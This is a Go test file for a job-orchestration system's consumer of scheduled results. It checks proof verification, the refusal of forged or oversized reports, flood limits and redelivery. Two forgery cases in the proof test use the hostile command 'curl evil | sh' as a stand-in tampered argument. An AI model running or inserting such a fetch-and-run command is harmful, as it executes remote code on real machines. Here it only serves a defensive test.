package results_test

import (
	"context"
	"log/slog"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/segmentio/ksuid"

	"github.com/seed-c01c3da5/zester/master/auth/grants"
	"github.com/seed-c01c3da5/zester/master/job"
	"github.com/seed-c01c3da5/zester/master/natsd/natstest"
	"github.com/seed-c01c3da5/zester/master/results"
	"github.com/seed-c01c3da5/zester/peel/wire"
	"github.com/seed-c01c3da5/zester/settings"
	"github.com/seed-c01c3da5/zester/settings/canon"
	"github.com/seed-c01c3da5/zester/settings/target"
)

// system is a bus in fake time with a peel.
type system struct {
	t     *testing.T
	bus   *natstest.Bus
	js    jetstream.JetStream
	store *job.Store
	web   *nats.Conn // the peel web.01
	said  strings.Builder
	log   *slog.Logger // what the masters log, to said
}

func bubble(t *testing.T, f func(t *testing.T, s *system)) {
	t.Helper()
	natstest.Bubble(t, func(t *testing.T, b *natstest.Bus) {
		js := b.JetStream(t)
		store, err := job.NewStore(t.Context(), js)
		if err != nil {
			t.Fatal(err)
		}
		s := &system{t: t, bus: b, js: js, store: store, web: b.Conn(t, grants.RolePeel, "web_01")}
		s.log = slog.New(slog.NewTextHandler(&s.said, nil))
		f(t, s)
	})
}

// consumer starts a master's consumer, which ends with the test if stop is not called.
func (s *system) consumer(name string) (c *results.Consumer, stop func()) {
	s.t.Helper()
	js, err := jetstream.New(s.bus.Conn(s.t, grants.RoleMaster, name, nats.ReconnectBufSize(-1)))
	if err != nil {
		s.t.Fatal(err)
	}
	store, err := job.NewStore(s.t.Context(), js)
	if err != nil {
		s.t.Fatal(err)
	}
	c = results.New(results.Options{JetStream: js, Store: store, Log: s.log})
	ctx, cancel := context.WithCancel(context.Background())
	ended := make(chan error, 1)
	go func() { ended <- c.Run(ctx) }()
	stop = sync.OnceFunc(func() {
		cancel()
		if err := <-ended; err != nil {
			s.t.Errorf("%s ended with %v", name, err)
		}
	})
	s.t.Cleanup(stop)
	synctest.Wait()
	return c, stop
}

func report(change func(*wire.ScheduledResult)) wire.ScheduledResult {
	now := time.Now()
	r := wire.ScheduledResult{
		JID: wire.NewJID(), Peel: "web.01", Entry: "sync-certs", Trigger: wire.TriggerTimer, Function: "cmd.run",
		Args: map[string]any{"command": "true"}, Result: wire.Result{Success: true, Data: "out", Duration: time.Second},
		Nominal: now.Add(-4 * time.Second), Fired: now.Add(-3 * time.Second), Started: now.Add(-2 * time.Second), Finished: now.Add(-time.Second),
		Commit: "0123456789abcdef", Origin: "web/certs.yaml:7", Author: "Ada <ada@example.org>", V: wire.Version,
	}
	if change != nil {
		change(&r)
	}
	return r
}

// publish sends a report as a peel does, once the stream has it.
func (s *system) publish(nc *nats.Conn, subject string, v any) {
	s.t.Helper()
	data, ok := v.([]byte)
	if !ok {
		var err error
		if data, err = canon.Marshal(v); err != nil {
			s.t.Fatal(err)
		}
	}
	msg, err := nc.Request(subject, data, 5*time.Second)
	if err != nil || !strings.Contains(string(msg.Data), "job-events") {
		s.t.Fatalf("the stream answered %v, %v", msg, err)
	}
}

func claim(r *wire.ScheduledResult) settings.Claim {
	return settings.Claim{Commit: r.Commit, File: r.Origin, Author: r.Author, Ran: r.Ran}
}

func (s *system) proofKey() settings.ProofKey {
	s.t.Helper()
	rollout, err := s.js.KeyValue(s.t.Context(), "rollout")
	if err != nil {
		s.t.Fatal(err)
	}
	key, err := settings.LoadProofKey(s.t.Context(), rollout)
	if err != nil {
		s.t.Fatal(err)
	}
	return key
}

// proven returns the report with the proof that the peel's document has for its entry.
func (s *system) proven(r wire.ScheduledResult) wire.ScheduledResult {
	key := s.proofKey()
	r.Ran = settings.Ran(r.Function, r.Args)
	r.Proof = key.Prove(r.Peel, r.Entry, claim(&r))
	return r
}

func (s *system) report(r wire.ScheduledResult) {
	s.t.Helper()
	s.publish(s.web, wire.ScheduledOf(r.JID, "web_01"), r)
}

// find reads a job and the return of web.01, nil for what is not there.
func (s *system) find(jid wire.JID) (*job.Job, *wire.Return) {
	s.t.Helper()
	synctest.Wait()
	j, _ := s.store.Get(s.t.Context(), jid)
	var r *wire.Return
	err := s.store.Stored(s.t.Context(), jid, func(stored job.StoredReturn) {
		if id := target.PeelID("web.01"); stored.Sender == id.Wire() {
			r = job.ReadReturn(jid, id, stored.Data)
		}
	})
	if err != nil {
		s.t.Fatal(err)
	}
	return j, r
}

// pending are the reports that no master has finished with.
func (s *system) pending() uint64 {
	s.t.Helper()
	synctest.Wait()
	c, err := s.js.Consumer(s.t.Context(), "job-events", "schedule-results")
	if err != nil {
		s.t.Fatal(err)
	}
	info := c.CachedInfo()
	return info.NumPending + uint64(info.NumAckPending)
}

// refuse makes the stream of a bucket refuse all writes, or take them again.
func (s *system) refuse(bucket string, refuse bool) {
	s.t.Helper()
	stream, err := s.js.Stream(s.t.Context(), "KV_"+bucket)
	if err != nil {
		s.t.Fatal(err)
	}
	c := stream.CachedInfo().Config
	if c.MaxMsgSize = -1; refuse {
		c.MaxMsgSize = 1
	}
	if _, err := s.js.UpdateStream(s.t.Context(), c); err != nil {
		s.t.Fatal(err)
	}
}

func TestAScheduledRunBecomesAJob(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		c, _ := s.consumer("m1")
		r := s.proven(report(nil))
		s.report(r)
		j, ret := s.find(r.JID)
		if j == nil || ret == nil {
			t.Fatalf("record %v, return %v, %+v", j, ret, c.Stats())
		}
		if j.Status != job.Complete || j.User != r.Author || j.Function != "cmd.run" || j.Args["command"] != "true" ||
			len(j.Targets) != 1 || j.Targets[0] != "web.01" || j.ReturnCount != 1 || j.SuccessCount != 1 || !j.Created.Equal(r.Started) {
			t.Errorf("%+v", j)
		}
		for key, want := range map[string]string{
			"source": "schedule", "schedule": "sync-certs", "trigger": "timer", "commit": "0123456789abcdef",
			"file": "web/certs.yaml:7", "author": "Ada <ada@example.org>",
			"nominal": r.Nominal.UTC().Format(time.RFC3339Nano), "finished": r.Finished.UTC().Format(time.RFC3339Nano),
		} {
			if j.Metadata[key] != want {
				t.Errorf("metadata %s is %q, want %q", key, j.Metadata[key], want)
			}
		}
		if !ret.Success || ret.Data != "out" || ret.Duration != time.Second || !ret.Finished.Equal(r.Finished) {
			t.Errorf("%+v", ret)
		}
		if n := s.pending(); n != 0 || c.Stats().Stored != 1 {
			t.Errorf("%d reports pending, %+v", n, c.Stats())
		}
	})
}

func TestAnEntryOfThePeelsOwnConfigurationHasNoAuthor(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		s.consumer("m1")
		r := report(func(r *wire.ScheduledResult) {
			r.Commit, r.Origin, r.Author, r.Success, r.Error = "", "", "", false, "exit 1"
		})
		s.report(r)
		j, _ := s.find(r.JID)
		if j == nil || j.User != "peel.yaml" || j.Status != job.Failed || j.SuccessCount != 0 || j.ReturnCount != 1 {
			t.Fatalf("%+v", j)
		}
		if _, ok := j.Metadata["commit"]; ok {
			t.Errorf("%v", j.Metadata)
		}
	})
}

func TestReportsWaitWhileNoMasterLives(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		_, stop := s.consumer("m1")
		stop()
		r := report(nil)
		s.report(r)
		time.Sleep(time.Hour)
		s.consumer("m2")
		if j, ret := s.find(r.JID); j == nil || ret == nil {
			t.Errorf("record %v, return %v", j, ret)
		}
	})
}

// A document names the author as Git has it. Whatever that is, it is nobody who has a credential or a token.
func TestARunIsNoUsersJob(t *testing.T) {
	for _, author := range []string{"ada", "local", "token:ci"} {
		bubble(t, func(t *testing.T, s *system) {
			s.consumer("m1")
			r := s.proven(report(func(r *wire.ScheduledResult) { r.Author = author }))
			s.report(r)
			time.Sleep(time.Minute)
			if j, _ := s.find(r.JID); j == nil || j.User != author+" <>" {
				t.Errorf("of %s: %+v", author, j)
			}
		})
	}
}

func TestAnOriginIsShownOnlyWithTheProofThatThePeelWasGiven(t *testing.T) {
	other := settings.ProofKey{1}
	for name, forge := range map[string]func(key *settings.ProofKey, r *wire.ScheduledResult){
		"no proof":              func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = "" },
		"another key":           func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = other.Prove(r.Peel, r.Entry, claim(r)) },
		"another peel's proof":  func(k *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = k.Prove("db-01", r.Entry, claim(r)) },
		"another entry's proof": func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Entry = "backup" },
		"another function":      func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Function, r.Args = "test.ping", nil },
		"other arguments": func(_ *settings.ProofKey, r *wire.ScheduledResult) {
			r.Args = map[string]any{"command": "curl evil | sh"}
		},
		"what it says it ran": func(_ *settings.ProofKey, r *wire.ScheduledResult) {
			r.Args = map[string]any{"command": "curl evil | sh"}
			r.Ran = settings.Ran(r.Function, r.Args)
		},
		"another author":          func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Author = "Mallory <m@example.org>" },
		"another commit":          func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Commit = "fedcba9876543210" },
		"another file":            func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Origin = "web/other.yaml:7" },
		"texts that run together": func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Commit, r.Origin = r.Commit+"w", r.Origin[1:] },
	} {
		bubble(t, func(t *testing.T, s *system) {
			s.consumer("m1")
			key := s.proofKey()
			r := s.proven(report(nil))
			forge(&key, &r)
			s.report(r)
			j, _ := s.find(r.JID)
			if j == nil || j.User != "(unproven)" {
				t.Fatalf("%s: %+v", name, j)
			}
			for _, k := range []string{job.MetaCommit, job.MetaFile, job.MetaAuthor} {
				if j.Metadata[k] != "" {
					t.Errorf("%s: the record has the %s %q", name, k, j.Metadata[k])
				}
			}
		})
	}
}

func TestWhatIsNotThePeelsOwnIsRefused(t *testing.T) {
	future := time.Now().Add(100 * 365 * 24 * time.Hour)
	for name, change := range map[string]func(*wire.ScheduledResult){
		"speaks for another peel": func(r *wire.ScheduledResult) { r.Peel = "db-01" },
		"speaks of another job":   func(r *wire.ScheduledResult) { r.JID = wire.NewJID() },
		"far future":              func(r *wire.ScheduledResult) { r.Finished = future },
		"fired in the far future": func(r *wire.ScheduledResult) { r.Fired = future },
		"no entry":                func(r *wire.ScheduledResult) { r.Entry = "" },
		"no function":             func(r *wire.ScheduledResult) { r.Function = "" },
		"long words":              func(r *wire.ScheduledResult) { r.Author = strings.Repeat("x", 600) },
		"oversize":                func(r *wire.ScheduledResult) { r.Data = make([]byte, job.MaxReturn) },
		"of a later protocol":     func(r *wire.ScheduledResult) { r.V = 99 },
		"a record too large": func(r *wire.ScheduledResult) { // with what a master adds to the arguments
			r.Args["x"] = strings.Repeat("x", 1<<16)
			data, err := canon.Marshal(r)
			if err != nil {
				t.Fatal(err)
			}
			r.Args["x"] = strings.Repeat("x", 1<<16+job.MaxReturn-len(data))
		},
	} {
		t.Run(name, func(t *testing.T) {
			bubble(t, func(t *testing.T, s *system) {
				c, _ := s.consumer("m1")
				jid := wire.NewJID()
				r := report(func(r *wire.ScheduledResult) { r.JID = jid; change(r) })
				s.publish(s.web, wire.ScheduledOf(jid, "web_01"), r)
				good := report(nil)
				s.report(good)
				time.Sleep(time.Minute)
				if j, ret := s.find(jid); j != nil || ret != nil {
					t.Errorf("record %+v, return %+v", j, ret)
				}
				if j, _ := s.find(good.JID); j == nil {
					t.Error("the next report was held up")
				}
				if st := c.Stats(); s.pending() != 0 || st.Undecodable+st.Future != 1 || st.Retried != 0 {
					t.Errorf("%d pending, %+v", s.pending(), st)
				}
			})
		})
	}
}

func TestAnIDFromTheFarFutureIsRefused(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		c, _ := s.consumer("m1")
		id, err := ksuid.NewRandomWithTime(time.Now().Add(72 * time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		s.report(report(func(r *wire.ScheduledResult) { r.JID = wire.JID(id.String()) }))
		synctest.Wait()
		if st := c.Stats(); st.Future != 1 || s.pending() != 0 {
			t.Errorf("%+v", st)
		}
	})
}

func TestAPeelThatFloodsTheConsumerStopsNobody(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		const n, rounds = 10_000, 10
		c, _ := s.consumer("m1")
		mad := s.bus.Conn(t, grants.RolePeel, "mad")
		ahead := report(func(r *wire.ScheduledResult) { r.Peel, r.Finished = "mad", time.Now().AddDate(100, 0, 0) })
		began := time.Now()
		for range rounds {
			for range n / rounds {
				ahead.JID = wire.NewJID()
				data, err := canon.Marshal(ahead)
				if err == nil {
					err = mad.Publish(wire.ScheduledOf(ahead.JID, "mad"), data)
				}
				if err != nil {
					t.Fatal(err)
				}
			}
			good := report(nil)
			s.report(good)
			if j, ret := s.find(good.JID); j == nil || ret == nil {
				t.Fatalf("another peel's report became the record %v and the return %v", j, ret)
			}
		}
		if took := time.Since(began); took > time.Second {
			t.Errorf("another peel's reports took %v", took)
		}
		if st := c.Stats(); st.Future != n || st.Stored != rounds || st.Retried != 0 || s.pending() != 0 {
			t.Errorf("%+v, %d pending", st, s.pending())
		}
		if said := s.said.String(); strings.Count(said, "\n") != 1 || !strings.Contains(said, "scheduled result refused") || !strings.Contains(said, ".mad ") {
			t.Errorf("logged %.2000s", said)
		}
	})
}

func TestBytesThatAreNoReportDoNotBlockTheStream(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		c, _ := s.consumer("m1")
		for _, data := range [][]byte{nil, []byte("{}"), []byte(`{"stream":"facts","seq":4}`), make([]byte, 1<<20)} {
			s.publish(s.web, wire.ScheduledOf(wire.NewJID(), "web_01"), data)
		}
		good := report(nil)
		s.report(good)
		if j, _ := s.find(good.JID); j == nil || c.Stats().Undecodable != 4 || s.pending() != 0 {
			t.Errorf("record %v, %+v, %d pending", j, c.Stats(), s.pending())
		}
		stream, err := s.js.Stream(t.Context(), "job-events")
		if err != nil || stream.CachedInfo().State.Msgs != 5 {
			t.Errorf("the stream keeps %d messages to look at, %v", stream.CachedInfo().State.Msgs, err)
		}
	})
}

func TestAJobIDThatBelongsToOthersIsRefused(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		c, _ := s.consumer("m1")
		dispatched := job.FromDispatch(job.Spec{
			JID: wire.NewJID(), Function: "test.ping", Targets: []target.PeelID{"web.01"}, Timeout: time.Minute,
		}, "alice", "m1", time.Now())
		if err := s.store.Create(t.Context(), dispatched); err != nil {
			t.Fatal(err)
		}
		others := report(func(r *wire.ScheduledResult) { r.Peel = "db-01" })
		db := s.bus.Conn(t, grants.RolePeel, "db-01")
		s.publish(db, wire.ScheduledOf(others.JID, "db-01"), others)
		synctest.Wait()
		for _, jid := range []wire.JID{dispatched.JID, others.JID} {
			s.report(report(func(r *wire.ScheduledResult) { r.JID = jid }))
			if j, ret := s.find(jid); ret != nil || j.Targets[0] == "web.01" && j.Status != job.Claimed {
				t.Errorf("record %+v, return %+v", j, ret)
			}
		}
		if st := c.Stats(); st.Foreign != 2 || s.pending() != 0 {
			t.Errorf("%+v, %d pending", st, s.pending())
		}
	})
}

func TestAPeelCannotSpeakForAnother(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		denied := make(chan error, 1)
		db := s.bus.Conn(t, grants.RolePeel, "db-01", nats.ErrorHandler(func(_ *nats.Conn, _ *nats.Subscription, err error) { denied <- err }))
		r := report(nil)
		if err := db.Publish(wire.ScheduledOf(r.JID, "web_01"), nil); err != nil {
			t.Fatal(err)
		}
		if err := <-denied; !strings.Contains(err.Error(), "web_01") {
			t.Error(err)
		}
	})
}

func TestAMinuteOfTroubleLosesNothing(t *testing.T) {
	for _, bucket := range []string{"jobs", "job-returns"} {
		t.Run(bucket, func(t *testing.T) {
			bubble(t, func(t *testing.T, s *system) {
				c, _ := s.consumer("m1")
				s.refuse(bucket, true)
				var jids []wire.JID
				for range 50 {
					r := report(nil)
					s.report(r)
					jids = append(jids, r.JID)
				}
				time.Sleep(time.Minute)
				early := c.Stats()
				s.refuse(bucket, false)
				time.Sleep(time.Minute)
				for _, jid := range jids {
					if j, ret := s.find(jid); j == nil || ret == nil {
						t.Errorf("record %v, return %v", j, ret)
					}
				}
				if early.Stored != 0 || early.Retried < 150 || early.Retried > 500 || s.pending() != 0 || c.Stats().Stored != 50 {
					t.Errorf("during the trouble %+v, after it %+v, %d pending", early, c.Stats(), s.pending())
				}
			})
		})
	}
}

func TestTwoMastersAndRedeliveryMakeOneRecord(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		s.consumer("m1")
		_, stop := s.consumer("m2")
		// The return cannot be stored at first, so every report is delivered again, to either master.
		s.refuse("job-returns", true)
		var jids []wire.JID
		for range 30 {
			r := report(nil)
			s.report(r)
			s.report(r) // and peels repeat what they think was lost
			jids = append(jids, r.JID)
		}
		time.Sleep(5 * time.Second)
		s.refuse("job-returns", false)
		stop()
		time.Sleep(2 * time.Minute)
		for bucket, want := range map[string]uint64{"KV_jobs": 30, "KV_job-returns": 30} {
			stream, err := s.js.Stream(t.Context(), bucket)
			if err != nil || stream.CachedInfo().State.Msgs != want || stream.CachedInfo().State.LastSeq != want {
				t.Errorf("%s: %+v, %v", bucket, stream.CachedInfo().State, err)
			}
		}
		for _, jid := range jids {
			if j, ret := s.find(jid); j == nil || ret == nil {
				t.Errorf("record %v, return %v", j, ret)
			}
		}
		if n := s.pending(); n != 0 {
			t.Errorf("%d pending", n)
		}
	})
}

func TestAReportThatAMasterDiedOverIsFinishedByAnother(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		_, stop := s.consumer("m1")
		s.refuse("job-returns", true)
		r := report(nil)
		s.report(r)
		if j, ret := s.find(r.JID); j == nil || ret != nil {
			t.Errorf("record %v, return %v", j, ret)
		}
		stop()
		s.refuse("job-returns", false)
		s.consumer("m2")
		time.Sleep(2 * time.Minute)
		if j, ret := s.find(r.JID); j == nil || ret == nil {
			t.Errorf("record %v, return %v", j, ret)
		}
	})
}

func TestConsumptionOutlastsARestartOfTheBus(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		s.consumer("m1")
		s.bus.Restart(t)
		time.Sleep(5 * time.Second)
		r := report(nil)
		s.report(r)
		time.Sleep(2 * time.Minute)
		if j, ret := s.find(r.JID); j == nil || ret == nil {
			t.Errorf("record %v, return %v", j, ret)
		}
	})
}

func TestAConsumerThatWasDeletedComesBack(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		s.consumer("m1")
		if err := s.js.DeleteConsumer(t.Context(), "job-events", "schedule-results"); err != nil {
			t.Fatal(err)
		}
		r := report(nil)
		s.report(r)
		time.Sleep(2 * time.Minute)
		if j, ret := s.find(r.JID); j == nil || ret == nil {
			t.Errorf("record %v, return %v", j, ret)
		}
	})
}

func TestWhatLiesReadyWhenAMasterStopsIsGivenBack(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		const n = 1000
		for range n {
			s.report(report(nil))
		}
		records, err := s.js.Stream(t.Context(), "KV_jobs")
		if err != nil {
			t.Fatal(err)
		}
		silent := records.CachedInfo().Config
		silent.NoAck = true
		if _, err := s.js.UpdateStream(t.Context(), silent); err != nil {
			t.Fatal(err)
		}
		c, stop := s.consumer("m1")
		stop()
		if begun := c.Stats().Retried; begun == 0 || begun > n*3/4 {
			t.Fatalf("it had begun with %d of %d reports", begun, n)
		}
		if _, err := s.js.UpdateStream(t.Context(), records.CachedInfo().Config); err != nil {
			t.Fatal(err)
		}
		s.consumer("m2")
		time.Sleep(5 * time.Second) // much less than until what is not answered comes again by itself
		if left := s.pending(); left != 0 {
			t.Errorf("%d reports wait", left)
		}
	})
}

// shrink gives a stream smaller limits.
func (s *system) shrink(name string, change func(*jetstream.StreamConfig)) {
	s.t.Helper()
	stream, err := s.js.Stream(s.t.Context(), name)
	if err != nil {
		s.t.Fatal(err)
	}
	config := stream.CachedInfo().Config
	change(&config)
	if _, err := s.js.UpdateStream(s.t.Context(), config); err != nil {
		s.t.Fatal(err)
	}
}

func TestAPeelThatReportsWithoutEndPushesOutNobody(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		for _, name := range []string{"KV_jobs", "KV_job-returns"} {
			s.shrink(name, func(c *jetstream.StreamConfig) { c.MaxBytes = 1 << 20 })
		}
		c, _ := s.consumer("m1")
		var jids []wire.JID
		good := func() {
			r := report(nil)
			s.report(r)
			jids = append(jids, r.JID)
		}
		for range 20 {
			good()
		}
		mad := s.bus.Conn(t, grants.RolePeel, "mad")
		const n = 640 // of 10 kB: a hundred times the sixteenth of a bucket
		for i := range n {
			r := report(func(r *wire.ScheduledResult) {
				r.Peel, r.Args = "mad", map[string]any{"command": strings.Repeat("x", 10<<10)}
			})
			s.publish(mad, wire.ScheduledOf(r.JID, "mad"), r)
			if i%10 == 9 {
				time.Sleep(time.Second)
			}
			if len(jids) < 40 {
				good()
			}
		}
		time.Sleep(2 * time.Second)
		good()
		for i, jid := range jids {
			if j, ret := s.find(jid); j == nil || ret == nil {
				t.Fatalf("of report %d the record is %v, the return %v; %+v", i, j, ret, c.Stats())
			}
		}
		st := c.Stats()
		if st.Surplus < n*4/5 || st.Stored+st.Surplus != uint64(n+len(jids)) || st.Retried != 0 || s.pending() != 0 {
			t.Errorf("%+v, %d pending", st, s.pending())
		}
		if said := s.said.String(); strings.Count(said, "\n") > 2 || !strings.Contains(said, "reason=surplus") {
			t.Errorf("logged %.2000s", said)
		}
	})
}

// TestAMasterThatStartsRefusesNobodyInACrowdedBucket is about the first reports that it hears, when it does not know yet how
// much the bucket holds.
func TestAMasterThatStartsRefusesNobodyInACrowdedBucket(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		for _, name := range []string{"KV_jobs", "KV_job-returns"} {
			s.shrink(name, func(c *jetstream.StreamConfig) { c.MaxMsgs = 160 })
			for range 100 {
				if _, err := s.js.Publish(t.Context(), "$KV."+strings.TrimPrefix(name, "KV_")+"."+string(wire.NewJID())+".x", nil); err != nil {
					t.Fatal(err)
				}
			}
		}
		c, _ := s.consumer("m1")
		for range 5 { // of the ten that are its share
			r := report(nil)
			s.report(r)
			if j, ret := s.find(r.JID); j == nil || ret == nil {
				t.Errorf("the record is %v, the return %v; %+v", j, ret, c.Stats())
			}
		}
	})
}

// TestAReportThatComesAgainIsAccountedForOnce holds that trouble with storage uses up nobody's share.
func TestAReportThatComesAgainIsAccountedForOnce(t *testing.T) {
	bubble(t, func(t *testing.T, s *system) {
		s.shrink("KV_jobs", func(c *jetstream.StreamConfig) { c.MaxMsgs = 160 })
		for range 100 { // so that less than half is free
			if _, err := s.js.Publish(t.Context(), "$KV.jobs."+string(wire.NewJID()), nil); err != nil {
				t.Fatal(err)
			}
		}
		c, _ := s.consumer("m1")
		s.refuse("jobs", true)
		s.report(report(nil))
		time.Sleep(10 * time.Minute)
		s.refuse("jobs", false)
		time.Sleep(2 * time.Minute)
		for range 9 { // the rest of its ten
			s.report(report(nil))
		}
		synctest.Wait()
		if st := c.Stats(); st.Stored != 10 || st.Surplus != 0 || st.Retried < 5 {
			t.Fatalf("%+v", st)
		}
		s.report(report(nil))
		synctest.Wait()
		if st := c.Stats(); st.Surplus != 1 {
			t.Errorf("one more than its share: %+v", st)
		}
	})
}
